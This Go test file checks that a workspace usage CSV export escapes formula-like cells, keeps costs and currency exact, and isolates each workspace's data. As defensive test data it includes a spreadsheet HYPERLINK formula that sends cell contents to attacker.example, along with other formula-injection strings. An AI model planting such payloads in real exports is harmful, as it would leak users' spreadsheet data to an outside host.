package app

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"quire/app/config"
	"quire/store"
)

// The usage CSV opens safely in a spreadsheet: names that would run as
// formulas are text, costs keep every decimal with the price table's
// currency, and only this workspace's usage is in it.
func TestUsageExportIsASafeCSV(t *testing.T) {
	evilModel := `=HYPERLINK("http://attacker.example/?"&A1,"update")`
	ts := newTestServer(t, func(c *config.Config) {
		c.Prices = map[string]config.Price{evilModel: {InputPerMillion: "0.50", Currency: "EUR"}}
	})
	owner, member := ts.signup("owner"), ts.signup("member")
	ws := ts.createWorkspace(owner, "Acme")
	ts.addMember(ws, owner, member, "member")
	other := ts.createWorkspace(member, "Elsewhere")
	ctx := context.Background()
	for name, u := range map[string]user{"@SUM(1+1)": owner, "\t-2+3 Carol": member} {
		if err := ts.store.UpdateUserName(ctx, u.ID, name); err != nil {
			t.Fatal(err)
		}
	}
	record := func(wsID string, u user, model string, in int, cost int64) {
		if _, err := ts.store.RecordUsage(ctx, store.Usage{WorkspaceID: wsID, UserID: u.ID, Kind: store.UsageChat, Model: model,
			InputTokens: in, OutputTokens: 7, CostMicros: cost}); err != nil {
			t.Fatal(err)
		}
	}
	record(ws.ID, owner, evilModel, 84, 42)
	record(ws.ID, member, "+quire-tiny-chat", 10, 0)
	record(other.ID, member, "secret-model", 1000, 500)

	read := func(groupBy string) [][]string {
		res := ts.must(200, req{method: "GET", path: "/api/workspaces/" + ws.ID + "/usage/export?group_by=" + groupBy, token: owner.token})
		if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
			t.Fatalf("%s: Content-Type %q", groupBy, ct)
		}
		if cd := res.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.HasSuffix(cd, `.csv"`) {
			t.Fatalf("%s: Content-Disposition %q", groupBy, cd)
		}
		rows, err := csv.NewReader(strings.NewReader(string(res.Body))).ReadAll()
		if err != nil {
			t.Fatalf("%s: not CSV: %v\n%s", groupBy, err, res.Body)
		}
		return rows
	}
	byModel := read("model")
	cells := map[string][]string{}
	for _, r := range byModel[1:] {
		cells[r[0]] = r
	}
	if byModel[0][0] != "model" || len(byModel) != 3 {
		t.Fatalf("by model: %q", byModel)
	}
	evil := cells["'"+evilModel]
	if evil == nil || evil[4] != "0.000042" || evil[5] != "EUR" || evil[2] != "84" {
		t.Fatalf("the formula-like model row: %q (all rows %q)", evil, byModel)
	}
	if cells["'+quire-tiny-chat"] == nil {
		t.Errorf("a name starting with + was not made text: %q", byModel)
	}
	if cells["secret-model"] != nil {
		t.Error("another workspace's usage is in the export")
	}
	people := map[string]bool{}
	for _, r := range read("user")[1:] {
		people[r[1]] = true
	}
	if !people["'@SUM(1+1)"] || !people["'\t-2+3 Carol"] {
		t.Fatalf("people: %v", people)
	}
	if days := read("day"); len(days) != 2 || days[1][1] != "2" {
		t.Fatalf("by day: %q", days)
	}
	for _, q := range []string{"group_by=workspace", "from=yesterday", "from=2026-02-01&to=2026-01-01"} {
		if res := ts.do(req{method: "GET", path: "/api/workspaces/" + ws.ID + "/usage/export?" + q, token: owner.token}); res.Status != 400 {
			t.Errorf("%s: %d", q, res.Status)
		}
	}
	ts.must(403, req{method: "GET", path: "/api/workspaces/" + ws.ID + "/usage/export", token: member.token})
	ts.must(404, req{method: "GET", path: "/api/workspaces/" + other.ID + "/usage/export", token: owner.token})
}
